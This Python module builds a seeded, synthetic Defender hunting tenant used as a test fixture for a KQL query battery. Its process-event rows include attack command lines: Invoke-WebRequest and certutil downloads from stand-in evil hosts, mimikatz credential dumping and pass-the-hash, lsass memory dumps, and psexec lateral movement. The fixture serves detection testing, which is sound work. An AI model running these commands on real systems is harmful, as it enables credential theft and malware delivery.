"""The small fixture tenant of kql-subset.md section 4, rebuilt deterministically from a seed.

Six tables (DeviceProcessEvents 301 rows, DeviceNetworkEvents 250, DeviceLogonEvents 200,
EmailEvents 150, AlertInfo 64, AlertEvidence 149) with real Defender column names; columns not
listed are absent (NULL once loaded). Rows are JSON-ready: timestamps are ISO strings in the exact
form the hunting API writes (seven fractional digits and ``Z``), so an answer row can be compared
with a fixture row as it is.

Timestamps lie in the 30 days before :data:`NOW` and at least two hours away from every boundary a
battery query draws (``ago(1d)``, ``ago(3d)``, ``ago(7d)``, the 30-day window, and the datetime
literals of Q22/Q23), so no answer hinges on a row sitting on a boundary.

The traps the battery relies on are built in on purpose, not left to chance: case variants of file
and account names, ``-NotEncodedCommand`` (``contains "EncodedCommand"`` but not ``has``), the
subject ``Invoices attached`` (not ``has "invoice"``), ``mimikatz64.exe`` (not a ``has "mimikatz"``
term), four AlertIds present twice in AlertInfo (``innerunique`` and ``inner`` joins differ), evil
URLs including ``devil`` (a ``contains "evil"`` match), LogonFailed bursts, SPF/DMARC failures and
ATT&CK technique arrays, some empty (``mv-expand`` yields no row for them).
"""

from __future__ import annotations

import hashlib
import json
import random
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

NOW = datetime(2026, 11, 20, 12, 0, 0, tzinfo=UTC)
SEED = 20261120
DAYS = 30

#: Rows per table, as in kql-subset.md section 4.
SIZES = {
    "DeviceProcessEvents": 301,
    "DeviceNetworkEvents": 250,
    "DeviceLogonEvents": 200,
    "EmailEvents": 150,
    "AlertInfo": 64,
    "AlertEvidence": 149,
}

Row = dict[str, Any]
Tables = dict[str, list[Row]]

#: Instants the battery filters on; no fixture row comes within :data:`MARGIN` of one.
BOUNDARIES = (
    NOW,
    NOW - timedelta(days=1),
    NOW - timedelta(days=3),
    NOW - timedelta(days=7),
    NOW - timedelta(days=DAYS),
    datetime(2026, 11, 1, tzinfo=UTC),
    datetime(2026, 11, 8, tzinfo=UTC),
)
MARGIN = timedelta(hours=2)

# (DeviceId, DeviceName). The first five run mimikatz; srv-file-01 never fails a logon, so the
# Q16 join keeps four of the five.
DEVICES = [
    ("d1a8f0c2e6b74a5f9c3d2e1f0a9b8c7d6e5f4a3b", "ws-fin-01"),
    ("e2b9a1d3f7c85b6a0d4e3f2a1b0c9d8e7f6a5b4c", "ws-hr-01"),
    ("f3cab2e4a8d96c7b1e5f4a3b2c1d0e9f8a7b6c5d", "srv-dc-01"),
    ("a4dbc3f5b9ea7d8c2f6a5b4c3d2e1f0a9b8c7d6e", "ws-dev-02"),
    ("b5ecd4a6cafb8e9d3a7b6c5d4e3f2a1b0c9d8e7f", "srv-file-01"),
    ("c6fde5b7dbac9fae4b8c7d6e5f4a3b2c1d0e9f8a", "ws-fin-02"),
    ("d7aef6c8ecbdaabf5c9d8e7f6a5b4c3d2e1f0a9b", "ws-dev-01"),
    ("e8bfa7d9fdcebbca6dae9f8a7b6c5d4e3f2a1b0c", "ws-dev-03"),
    ("f9cab8eaaedfccdb7ebfaa9b8c7d6e5f4a3b2c1d", "ws-dev-04"),
    ("aadbc9fbbfaadded8fcabbac9d8e7f6a5b4c3d2e", "ws-exec-01"),
]
MIMIKATZ_DEVICES = DEVICES[:5]
NO_FAILED_LOGONS = {"srv-file-01"}

USERS = ["jdoe", "asmith", "kchen", "rpatel", "mlopez", "tnguyen", "lmartin", "svc_backup"]
DOMAIN = "CONTOSO"

# (AccountName, failed logons). Case variants count separately (summarize is case-sensitive) and
# never tie, so Q21's "order by Failures desc, AccountName asc" does not depend on collation.
FAILED_LOGONS = [
    ("Administrator", 12),
    ("ADMINISTRATOR", 6),
    ("administrator", 3),
    ("rpatel", 9),
    ("guest", 8),
    ("jdoe", 7),
    ("helpdesk", 7),
    ("asmith", 5),
    ("kchen", 5),
    ("svc_backup", 5),
    ("test", 4),
    ("mlopez", 2),
    ("tnguyen", 1),
]

EVIL_URLS = ["evil.example.com", "cdn.EVIL-corp.net", "login.devil-update.com"]
BENIGN_URLS = [
    "www.microsoft.com",
    "login.microsoftonline.com",
    "outlook.office365.com",
    "github.com",
    "update.contoso.com",
    "teams.microsoft.com",
    "",
]
TECHNIQUES = [
    "Credential Dumping (T1003)",
    "PowerShell (T1059.001)",
    "Phishing (T1566)",
    "Remote Services (T1021)",
    "Ingress Tool Transfer (T1105)",
    "Brute Force (T1110)",
]


def format_timestamp(moment: datetime) -> str:
    """The hunting API's datetime form: UTC, seven fractional digits, ``Z``."""
    moment = moment.astimezone(UTC)
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond:06d}0Z"


def parse_timestamp(text: str) -> datetime:
    """The inverse of :func:`format_timestamp` (the seventh digit is always 0 here)."""
    return datetime.fromisoformat(text[:26] + "+00:00")


@dataclass
class _Clock:
    """Draws unique timestamps within the fixture's rules, one source per table."""

    rng: random.Random
    used: set[str] = field(default_factory=set)

    def _clear(self, moment: datetime) -> bool:
        return all(abs(moment - boundary) >= MARGIN for boundary in BOUNDARIES)

    def within(self, newest: timedelta, oldest: timedelta) -> datetime:
        """A fresh instant between ``NOW - oldest`` and ``NOW - newest``, clear of the boundaries."""
        while True:
            seconds = self.rng.uniform(newest.total_seconds(), oldest.total_seconds())
            moment = NOW - timedelta(seconds=seconds)
            moment = moment.replace(microsecond=self.rng.randrange(1_000_000))
            if self._clear(moment) and format_timestamp(moment) not in self.used:
                self.used.add(format_timestamp(moment))
                return moment

    def anytime(self) -> datetime:
        return self.within(MARGIN, timedelta(days=DAYS) - MARGIN)

    def recent(self) -> datetime:
        """Within the last day."""
        return self.within(MARGIN, timedelta(days=1) - MARGIN)

    def last_days(self, days: int) -> datetime:
        return self.within(MARGIN, timedelta(days=days) - MARGIN)

    def old(self, days: int) -> datetime:
        """Older than ``days`` days."""
        return self.within(timedelta(days=days) + MARGIN, timedelta(days=DAYS) - MARGIN)

    def burst(self, count: int) -> list[datetime]:
        """``count`` instants a minute or few apart, all in one clear stretch of under an hour."""
        while True:
            start = self.within(MARGIN + timedelta(hours=1), timedelta(days=DAYS) - MARGIN)
            moments = [start + timedelta(minutes=index * 3 + self.rng.randrange(3)) for index in range(count)]
            stamps = [format_timestamp(moment) for moment in moments]
            if all(self._clear(moment) for moment in moments) and not self.used & set(stamps):
                self.used.update(stamps)
                return moments


def _hex(rng: random.Random, length: int) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(length))


def _pick(rng: random.Random, items: list[Any]) -> Any:
    return items[rng.randrange(len(items))]


def _fill(rows: list[Row], size: int, make: Callable[[], Row]) -> list[Row]:
    """Tops ``rows`` up to ``size`` with filler rows and sorts them by time."""
    while len(rows) < size:
        rows.append(make())
    if len(rows) != size:
        raise ValueError(f"{len(rows)} special rows leave no room for {size}")
    return sorted(rows, key=lambda row: row["Timestamp"])


# --------------------------------------------------------------------------------------------
# DeviceProcessEvents
# --------------------------------------------------------------------------------------------

_B64 = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
_USER_PATH = r"C:\Users\{user}\AppData\Local\Temp"
_SYSTEM_PATH = r"C:\Windows\System32"
_PS_PATH = r"C:\Windows\System32\WindowsPowerShell\v1.0"

# (FileName, command line, count). Q03 matches FileName == "powershell.exe" with a whole
# "EncodedCommand" term; the rest of the list are its near misses.
_POWERSHELL = [
    ("powershell.exe", "powershell.exe -NoProfile -EncodedCommand " + _B64, 14),
    ("powershell.exe", "powershell.exe -nop -w hidden -encodedcommand " + _B64[:40], 6),
    ("powershell.exe", '"powershell.exe" -ExecutionPolicy Bypass -EncodedCommand:' + _B64[:24], 4),
    ("powershell.exe", "powershell.exe -NotEncodedCommand Get-Date", 3),
    ("powershell.exe", "powershell.exe -enc " + _B64[:32], 3),
    ("PowerShell.exe", "PowerShell.exe -EncodedCommand " + _B64[:28], 3),
    ("POWERSHELL.EXE", "POWERSHELL.EXE -EncodedCommand " + _B64[:20], 2),
    ("powershell.exe", "powershell.exe -File C:\\Scripts\\inventory.ps1", 6),
]

# Q09 (has_any "mimikatz", "sekurlsa", "Invoke-WebRequest") and Q33 (URL in the command line).
_SUSPICIOUS = [
    (
        "powershell.exe",
        "powershell.exe -c Invoke-WebRequest -Uri http://evil.example.com/payload.ps1 -OutFile p.ps1",
    ),
    ("powershell.exe", "powershell.exe -c invoke-webrequest https://cdn.EVIL-corp.net/stage2.bin"),
    ("powershell.exe", "powershell.exe -c Invoke-WebRequest -Uri https://update.contoso.com/agent.msi"),
    ("cmd.exe", "cmd.exe /c certutil -urlcache -f http://185.220.101.4/a.exe a.exe"),
    ("rundll32.exe", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\lsass.dmp full"),
    ("procdump.exe", "procdump.exe -accepteula -ma lsass.exe lsass.dmp"),
    ("notsekurlsa.exe", "notsekurlsa.exe --help"),
]
_BENIGN = [
    ("svchost.exe", _SYSTEM_PATH, "svchost.exe -k netsvcs -p -s Schedule"),
    ("explorer.exe", r"C:\Windows", "explorer.exe"),
    (
        "chrome.exe",
        r"C:\Program Files\Google\Chrome\Application",
        "chrome.exe --app=https://portal.contoso.com/home",
    ),
    (
        "msedge.exe",
        r"C:\Program Files (x86)\Microsoft\Edge\Application",
        "msedge.exe --single-argument https://intranet.contoso.com/",
    ),
    ("notepad.exe", _SYSTEM_PATH, r"notepad.exe C:\Users\Public\notes.txt"),
    ("conhost.exe", _SYSTEM_PATH, "conhost.exe 0xffffffff -ForceV1"),
    (
        "Teams.exe",
        r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current",
        "Teams.exe --process-start-reason=AutoStart",
    ),
    ("OneDrive.exe", r"C:\Users\{user}\AppData\Local\Microsoft\OneDrive", "OneDrive.exe /background"),
    ("git.exe", r"C:\Program Files\Git\cmd", "git.exe fetch https://github.com/contoso/infra.git"),
    ("taskhostw.exe", _SYSTEM_PATH, "taskhostw.exe"),
]
_SHELLS = [
    ("cmd.exe", 9),
    ("CMD.EXE", 4),
    ("Cmd.exe", 3),
    ("wscript.exe", 4),
    ("WScript.exe", 3),
    ("WSCRIPT.EXE", 2),
]


class _ProcessEvents:
    """Builds DeviceProcessEvents."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.clock = _Clock(rng)
        self.report_id = 1000

    def row(
        self,
        file_name: str,
        command_line: str,
        *,
        when: datetime | None = None,
        device: tuple[str, str] | None = None,
        user: str | None = None,
        folder: str | None = None,
    ) -> Row:
        rng = self.rng
        device_id, device_name = device or _pick(rng, DEVICES)
        account = user or _pick(rng, USERS)
        # A few user paths are lower-cased: startswith @"C:\Users\" must still match them.
        folder_path = (folder or _SYSTEM_PATH).format(user=account)
        if folder_path.startswith("C:\\Users") and rng.random() < 0.25:
            folder_path = folder_path.lower()
        self.report_id += 1
        return {
            "Timestamp": format_timestamp(when or self.clock.anytime()),
            "DeviceId": device_id,
            "DeviceName": device_name,
            "ActionType": "ProcessCreated",
            "FileName": file_name,
            "FolderPath": folder_path + "\\" + file_name,
            "ProcessCommandLine": command_line,
            "AccountName": account,
            "AccountDomain": DOMAIN,
            "InitiatingProcessFileName": _pick(
                rng, ["explorer.exe", "cmd.exe", "services.exe", "winword.exe"]
            ),
            "SHA256": _hex(rng, 64),
            "ReportId": self.report_id,
            "AdditionalFields": json.dumps(
                {"ProcessIntegrity": _pick(rng, ["Medium", "High", "System"]), "Elevated": rng.random() < 0.3}
            ),
        }

    def build(self) -> list[Row]:
        rows = self._powershell() + self._mimikatz() + self._psexec() + self._suspicious()
        rows += self._shells() + self._recent()
        return _fill(rows, SIZES["DeviceProcessEvents"], self._benign)

    def _powershell(self) -> list[Row]:
        return [
            self.row(name, line, folder=_PS_PATH) for name, line, count in _POWERSHELL for _ in range(count)
        ]

    def _mimikatz(self) -> list[Row]:
        rows = [
            self.row(
                "mimikatz.exe",
                "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit",
                device=device,
                user="Administrator",
                folder=_USER_PATH,
            )
            for device in MIMIKATZ_DEVICES
        ]
        # A second sighting, upper case, in the last three days: =~ matches, == would not.
        rows.append(
            self.row(
                "MIMIKATZ.EXE",
                r"C:\Users\Public\MIMIKATZ.EXE sekurlsa::pth /user:svc_backup",
                device=DEVICES[0],
                when=self.clock.last_days(3),
                folder=r"C:\Users\Public",
            )
        )
        # Not a "mimikatz" term, and not =~ "mimikatz.exe".
        rows.append(
            self.row(
                "mimikatz64.exe", r"C:\tools\mimikatz64.exe coffee", device=DEVICES[9], folder=r"C:\tools"
            )
        )
        return rows

    def _psexec(self) -> list[Row]:
        device = DEVICES[2]
        return [
            self.row(
                "psexec.exe",
                r"psexec.exe \\srv-file-01 -s cmd.exe",
                device=device,
                when=self.clock.last_days(3),
            ),
            self.row(
                "PsExec.exe",
                r"PsExec.exe \\ws-fin-02 -u CONTOSO\admin cmd",
                device=device,
                when=self.clock.last_days(3),
            ),
            self.row("psexec.exe", r"psexec.exe \\ws-dev-01 ipconfig", device=device, when=self.clock.old(3)),
        ]

    def _suspicious(self) -> list[Row]:
        return [self.row(name, line, device=_pick(self.rng, DEVICES[:4])) for name, line in _SUSPICIOUS]

    def _shells(self) -> list[Row]:
        rows = []
        for name, count in _SHELLS:
            for _ in range(count):
                rows.append(
                    self.row(
                        name, f"{name} /c {_pick(self.rng, ['whoami', 'dir', 'ipconfig /all', 'net user'])}"
                    )
                )
        return rows

    def _recent(self) -> list[Row]:
        """Activity in the last day (Q18, Q35)."""
        return [self._benign(self.clock.recent()) for _ in range(18)]

    def _benign(self, when: datetime | None = None) -> Row:
        name, folder, line = _pick(self.rng, _BENIGN)
        user = _pick(self.rng, USERS)
        return self.row(name, line.format(user=user), when=when, user=user, folder=folder)


# --------------------------------------------------------------------------------------------
# DeviceNetworkEvents
# --------------------------------------------------------------------------------------------

_PORTS = [443, 443, 443, 80, 80, 445, 3389, 22, 53, 135, 8080, 4444, 5985, 1024, 1025, 49151, 49152, 50123]
_REMOTE_IPS = [f"203.0.113.{n}" for n in (5, 17, 42, 77, 101)] + [f"198.51.100.{n}" for n in (9, 23, 88)]
_LOCAL_IPS = {name: f"10.1.{index}.{10 + index}" for index, (_, name) in enumerate(DEVICES)}
_NETWORK_ACTIONS = (
    ["ConnectionSuccess"] * 6 + ["ConnectionFailed"] * 2 + ["InboundConnectionAccepted", "ConnectionRequest"]
)


class _NetworkEvents:
    """Builds DeviceNetworkEvents."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.clock = _Clock(rng)

    def row(
        self, *, url: str | None = None, device: tuple[str, str] | None = None, when: datetime | None = None
    ) -> Row:
        rng = self.rng
        device_id, device_name = device or _pick(rng, DEVICES)
        return {
            "Timestamp": format_timestamp(when or self.clock.anytime()),
            "DeviceId": device_id,
            "DeviceName": device_name,
            "ActionType": _pick(rng, _NETWORK_ACTIONS),
            "RemoteIP": _pick(rng, _REMOTE_IPS),
            "RemotePort": _pick(rng, _PORTS),
            "RemoteUrl": _pick(rng, BENIGN_URLS) if url is None else url,
            "LocalIP": _LOCAL_IPS[device_name],
            "Protocol": _pick(rng, ["Tcp", "Tcp", "Tcp", "Udp"]),
            "InitiatingProcessFileName": _pick(
                rng, ["chrome.exe", "msedge.exe", "svchost.exe", "powershell.exe", "Teams.exe"]
            ),
            "InitiatingProcessAccountName": _pick(rng, USERS),
        }

    def build(self) -> list[Row]:
        rows = [self.row(url=url) for url in EVIL_URLS for _ in range(4)]
        rows += [self.row(device=DEVICES[0]) for _ in range(20)]
        rows += [self.row(when=self.clock.recent()) for _ in range(20)]
        return _fill(rows, SIZES["DeviceNetworkEvents"], self.row)


# --------------------------------------------------------------------------------------------
# DeviceLogonEvents
# --------------------------------------------------------------------------------------------


class _LogonEvents:
    """Builds DeviceLogonEvents: failure bursts per account, then successes."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.clock = _Clock(rng)
        self.failing_devices = [device for device in DEVICES if device[1] not in NO_FAILED_LOGONS]

    def row(self, account: str, action: str, when: datetime, device: tuple[str, str] | None = None) -> Row:
        rng = self.rng
        device_id, device_name = device or _pick(rng, self.failing_devices)
        return {
            "Timestamp": format_timestamp(when),
            "DeviceId": device_id,
            "DeviceName": device_name,
            "ActionType": action,
            "LogonType": _pick(rng, ["Interactive", "Network", "RemoteInteractive", "Network"]),
            "AccountName": account,
            "AccountDomain": DOMAIN if account.lower() != "administrator" else device_name.upper(),
            "RemoteIP": _pick(rng, _REMOTE_IPS),
            "IsLocalAdmin": account.lower() in ("administrator", "helpdesk") or rng.random() < 0.12,
        }

    def build(self) -> list[Row]:
        rows: list[Row] = []
        for account, failures in FAILED_LOGONS:
            rows.extend(self._failures(account, failures))
        # Every mimikatz device but srv-file-01 sees failures, so Q16 joins four devices.
        for device in MIMIKATZ_DEVICES:
            if device[1] not in NO_FAILED_LOGONS:
                rows.append(self.row("jdoe", "LogonAttempted", self.clock.anytime(), device))
        successes = [name for name, _ in FAILED_LOGONS if name not in ("guest", "test")] + USERS
        return _fill(rows, SIZES["DeviceLogonEvents"], lambda: self._success(successes))

    def _failures(self, account: str, count: int) -> list[Row]:
        rows = []
        remaining = count
        device_cycle = iter(self.rng.sample(self.failing_devices, len(self.failing_devices)) * 3)
        while remaining:
            size = min(remaining, self.rng.randint(2, 5))
            device = next(device_cycle)
            rows.extend(self.row(account, "LogonFailed", moment, device) for moment in self.clock.burst(size))
            remaining -= size
        return rows

    def _success(self, accounts: list[str]) -> Row:
        return self.row(
            _pick(self.rng, accounts), "LogonSuccess", self.clock.anytime(), _pick(self.rng, DEVICES)
        )


# --------------------------------------------------------------------------------------------
# EmailEvents
# --------------------------------------------------------------------------------------------

# Q08: which subjects `has "invoice"` (a whole term, any case) and which do not.
_SUBJECTS = [
    "Invoices attached",
    "Invoice #4471 overdue",
    "Your INVOICE is ready",
    "invoice-2026-11",
    "Weekly report",
    "Team lunch on Friday",
    "Password expiry notice",
    "Shared document: Q4 budget",
    "Urgent: wire transfer",
    "Security alert for your account",
    "Meeting notes",
    "Re: project timeline",
    "Invoicing system maintenance",
]
_PHISHERS = [
    (
        "billing@paypa1-secure.com",
        "paypa1-secure.com",
        ["Urgent: wire transfer", "Security alert for your account"],
        6,
    ),
    ("it-support@contoso-helpdesk.net", "contoso-helpdesk.net", ["Password expiry notice"], 4),
    (
        "docs@sharepoint-files.info",
        "sharepoint-files.info",
        ["Shared document: Q4 budget", "Invoices attached"],
        5,
    ),
]
_RECIPIENTS = [f"{user}@contoso.com" for user in USERS if user != "svc_backup"]
_PASS = {"SPF": "pass", "DKIM": "pass", "DMARC": "pass", "CompAuth": "pass"}


class _EmailEvents:
    """Builds EmailEvents."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.clock = _Clock(rng)

    def row(self, sender: str, domain: str, subject: str, **overrides: Any) -> Row:
        rng = self.rng
        row: Row = {
            "Timestamp": format_timestamp(self.clock.anytime()),
            "NetworkMessageId": str(_uuid(rng)),
            "SenderFromAddress": sender,
            "SenderFromDomain": domain,
            "RecipientEmailAddress": _pick(rng, _RECIPIENTS),
            "Subject": subject,
            "EmailDirection": "Inbound",
            "DeliveryAction": "Delivered",
            "ThreatTypes": "",
            "AttachmentCount": rng.randrange(3),
            "UrlCount": rng.randrange(4),
            "AuthenticationDetails": json.dumps(_PASS),
        }
        row.update(overrides)
        return row

    def build(self) -> list[Row]:
        rows = []
        for sender, domain, subjects, count in _PHISHERS:
            for index in range(count):
                auth = {
                    "SPF": "fail",
                    "DKIM": "none",
                    "DMARC": "fail" if index % 3 else "pass",
                    "CompAuth": "fail",
                }
                rows.append(
                    self.row(
                        sender,
                        domain,
                        subjects[index % len(subjects)],
                        ThreatTypes=_pick(self.rng, ["Phish", "Phish, Malware"]),
                        DeliveryAction=_pick(self.rng, ["Delivered", "Junked", "Blocked"]),
                        AuthenticationDetails=json.dumps(auth),
                    )
                )
        # Phish going out is not counted by Q34 (EmailDirection == "Inbound").
        rows.append(
            self.row(
                "jdoe@contoso.com",
                "contoso.com",
                "Invoices attached",
                EmailDirection="Outbound",
                ThreatTypes="Phish",
            )
        )
        rows += [
            self.row(
                "news@fabrikam.com",
                "fabrikam.com",
                _pick(self.rng, _SUBJECTS),
                ThreatTypes="Spam",
                DeliveryAction="Junked",
            )
            for _ in range(8)
        ]
        rows += [self._spoofed_bulk() for _ in range(5)]
        return _fill(rows, SIZES["EmailEvents"], self._ordinary)

    def _spoofed_bulk(self) -> Row:
        auth = {"SPF": "fail", "DKIM": "fail", "DMARC": "fail", "CompAuth": "fail"}
        return self.row(
            "promo@deals-fabrikam.biz",
            "deals-fabrikam.biz",
            "Meeting notes",
            ThreatTypes="Spam",
            AuthenticationDetails=json.dumps(auth),
        )

    def _ordinary(self) -> Row:
        rng = self.rng
        user = _pick(rng, USERS[:-1])
        direction = _pick(rng, ["Inbound", "Inbound", "Outbound", "Intra-org"])
        sender = (
            f"{user}@contoso.com"
            if direction != "Inbound"
            else _pick(rng, ["partner@fabrikam.com", "sales@northwind.com", "hr@contoso.com"])
        )
        return self.row(sender, sender.split("@")[1], _pick(rng, _SUBJECTS), EmailDirection=direction)


def _uuid(rng: random.Random) -> str:
    text = _hex(rng, 32)
    return f"{text[:8]}-{text[8:12]}-4{text[13:16]}-a{text[17:20]}-{text[20:]}"


# --------------------------------------------------------------------------------------------
# AlertInfo and AlertEvidence
# --------------------------------------------------------------------------------------------

_ALERT_KINDS = [
    ("Credential dumping tool detected", "CredentialAccess", ["Credential Dumping (T1003)"]),
    ("Suspicious PowerShell command line", "Execution", ["PowerShell (T1059.001)"]),
    ("Phishing email delivered", "InitialAccess", ["Phishing (T1566)"]),
    (
        "Suspicious remote session",
        "LateralMovement",
        ["Remote Services (T1021)", "Credential Dumping (T1003)"],
    ),
    (
        "File downloaded from a malicious URL",
        "CommandAndControl",
        ["Ingress Tool Transfer (T1105)", "PowerShell (T1059.001)"],
    ),
    ("Multiple failed sign-in attempts", "CredentialAccess", ["Brute Force (T1110)"]),
    ("Unusual network discovery", "Discovery", []),
]
_SEVERITIES = ["High"] * 4 + ["Medium"] * 6 + ["Low"] * 3 + ["Informational"]
_SERVICES = {
    "InitialAccess": ("Microsoft Defender for Office 365", "Microsoft Defender for Office 365"),
    "CredentialAccess": ("Microsoft Defender for Endpoint", "EDR"),
}
_ENTITIES = ["Process", "File", "Ip", "User", "Machine", "Url", "MailMessage"]
_ALERT_UNIQUE = 60
_DUPLICATED = 4


def _alerts(rng: random.Random) -> list[Row]:
    clock = _Clock(rng)
    rows = []
    for index in range(_ALERT_UNIQUE):
        title, category, techniques = _ALERT_KINDS[index % len(_ALERT_KINDS)]
        service, detection = _SERVICES.get(
            category, ("Microsoft Defender for Endpoint", _pick(rng, ["EDR", "Antivirus", "CustomDetection"]))
        )
        rows.append(
            {
                "Timestamp": format_timestamp(clock.anytime()),
                "AlertId": f"da6386{rng.randrange(10**11, 10**12)}_{rng.randrange(10**8, 10**9)}",
                "Title": title,
                "Category": category,
                "Severity": _pick(rng, _SEVERITIES),
                "ServiceSource": service,
                "DetectionSource": detection,
                "AttackTechniques": json.dumps(techniques),
            }
        )
    return rows


def _duplicate_alerts(rng: random.Random, alerts: list[Row]) -> list[Row]:
    """Re-sends of four High/Medium alerts, later but otherwise equal, as Defender sometimes logs."""
    candidates = [row for row in alerts if row["Severity"] in ("High", "Medium")]
    copies = []
    for original in rng.sample(candidates, _DUPLICATED):
        copy = dict(original)
        later = parse_timestamp(original["Timestamp"]) + timedelta(
            minutes=7, microseconds=rng.randrange(1, 999_999)
        )
        copy["Timestamp"] = format_timestamp(
            later if all(abs(later - b) >= MARGIN for b in BOUNDARIES) else later - timedelta(minutes=14)
        )
        copies.append(copy)
    return copies


def _evidence(rng: random.Random, alerts: list[Row]) -> list[Row]:
    clock = _Clock(rng)
    rows: list[Row] = []
    # Every alert gets one row first, so the joins cover them all; the rest are spread at random,
    # and a few belong to alerts AlertInfo does not hold (dropped by inner joins).
    owners = [alert["AlertId"] for alert in alerts] + [
        alert["AlertId"] for alert in rng.choices(alerts, k=84)
    ]
    owners += [f"da6386{rng.randrange(10**11, 10**12)}_{rng.randrange(10**8, 10**9)}" for _ in range(5)]
    titles = {alert["AlertId"]: (alert["Title"], alert["Category"]) for alert in alerts}
    for alert_id in owners:
        title, category = titles.get(alert_id, ("Orphaned evidence", "Unknown"))
        device_id, device_name = _pick(rng, DEVICES)
        entity = _pick(rng, _ENTITIES)
        extra: dict[str, Any] = {"Role": _pick(rng, ["Attacker", "Victim", "Related", "Compromised"])}
        if rng.random() < 0.85:
            extra["Score"] = rng.randrange(0, 101)
        rows.append(
            {
                "Timestamp": format_timestamp(clock.anytime()),
                "AlertId": alert_id,
                "Title": title,
                "Categories": json.dumps([category]),
                "EntityType": entity,
                "EvidenceRole": _pick(rng, ["Impacted", "Related"]),
                "DeviceId": device_id,
                "DeviceName": device_name,
                "AccountName": _pick(rng, USERS) if entity in ("User", "Process") else "",
                "FileName": _pick(rng, ["mimikatz.exe", "p.ps1", "a.exe", "lsass.dmp"])
                if entity in ("File", "Process")
                else "",
                "RemoteIP": _pick(rng, _REMOTE_IPS) if entity in ("Ip", "Url") else "",
                "AdditionalFields": json.dumps(extra),
            }
        )
    return rows


# --------------------------------------------------------------------------------------------
# The tenant
# --------------------------------------------------------------------------------------------


def build_fixture(seed: int = SEED) -> Tables:
    """The fixture tenant: table name -> rows (JSON-ready dicts), in time order.

    :param seed: seed of the generator; the same seed gives the same rows, byte for byte.
    """
    rng = random.Random(seed)
    alerts = _alerts(rng)
    alert_info = sorted(alerts + _duplicate_alerts(rng, alerts), key=lambda row: row["Timestamp"])
    tables = {
        "DeviceProcessEvents": _ProcessEvents(rng).build(),
        "DeviceNetworkEvents": _NetworkEvents(rng).build(),
        "DeviceLogonEvents": _LogonEvents(rng).build(),
        "EmailEvents": _EmailEvents(rng).build(),
        "AlertInfo": alert_info,
        "AlertEvidence": sorted(_evidence(rng, alerts), key=lambda row: row["Timestamp"]),
    }
    for table, rows in tables.items():
        if len(rows) != SIZES[table]:
            raise AssertionError(f"{table}: {len(rows)} rows, expected {SIZES[table]}")
    return tables


def fixture_digest(tables: Tables) -> str:
    """A fingerprint of the data, stored beside the snapshot so a changed generator is noticed."""
    text = json.dumps(tables, sort_keys=True, separators=(",", ":"))
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


# --------------------------------------------------------------------------------------------
# Loading into DuckDB
# --------------------------------------------------------------------------------------------


def typed_rows(table: str, rows: Iterable[Row]) -> list[Row]:
    """``rows`` with ISO timestamp strings turned into aware datetimes, per the table's schema."""
    from airflow_provider_mtp.emulator.schema import table_schemas

    datetimes = {name for name, kind in table_schemas()[table] if kind == "datetime"}
    return [
        {
            key: parse_timestamp(value) if key in datetimes and isinstance(value, str) else value
            for key, value in row.items()
        }
        for row in rows
    ]


def _create_tables(con: Any) -> None:
    from airflow_provider_mtp.emulator.schema import DUCKDB_TYPES, table_schemas

    con.execute("CREATE SCHEMA IF NOT EXISTS store")
    for table, columns in table_schemas().items():
        definition = ", ".join(f'"{name}" {DUCKDB_TYPES[kind]}' for name, kind in columns)
        con.execute(f'CREATE TABLE IF NOT EXISTS store."{table}" ({definition})')


def _insert_rows(con: Any, table: str, rows: list[Row]) -> int:
    rows = typed_rows(table, rows)
    columns = sorted({key for row in rows for key in row})
    names = ", ".join(f'"{name}"' for name in columns)
    marks = "(" + ", ".join("?" for _ in columns) + ")"
    # One statement for all rows: executemany pays a statement per row.
    con.execute(
        f'INSERT INTO store."{table}" ({names}) VALUES ' + ", ".join(marks for _ in rows),
        [row.get(name) for row in rows for name in columns],
    )
    return len(rows)


def load_fixture(con: Any, tables: Tables | None = None) -> Tables:
    """Create the ``store`` tables on ``con`` and load the fixture into them.

    Uses the emulator tenant's ``create_tables``/``insert_rows`` when that module exists, so the
    battery runs through the same loading path as the emulator.

    :param con: a connection from ``duckdb_kql.connect()``.
    :param tables: the rows to load (default: :func:`build_fixture`).
    :returns: the rows loaded.
    """
    tables = build_fixture() if tables is None else tables
    try:
        from airflow_provider_mtp.emulator import tenant
    except ImportError:
        tenant = None  # type: ignore[assignment]
    create = getattr(tenant, "create_tables", None) or _create_tables
    insert = getattr(tenant, "insert_rows", None) or _insert_rows
    create(con)
    for table, rows in tables.items():
        inserted = insert(con, table, rows)
        if inserted != len(rows):
            raise AssertionError(f"{table}: inserted {inserted} of {len(rows)} rows")
    return tables


def fixture_engine(*, clock: Any = None, **options: Any) -> Any:
    """A :class:`HuntingEngine` over a fresh in-memory copy of the fixture.

    :param clock: the data clock (default: a ``Clock`` frozen at :data:`NOW`).
    :param options: passed to ``HuntingEngine`` (``row_limit``, ``query_timeout``, ...).
    """
    import duckdb_kql

    from airflow_provider_mtp.emulator.config import Clock
    from airflow_provider_mtp.emulator.hunting import HuntingEngine

    con = duckdb_kql.connect()
    load_fixture(con)
    return HuntingEngine(con, clock=clock or Clock(NOW), **options)
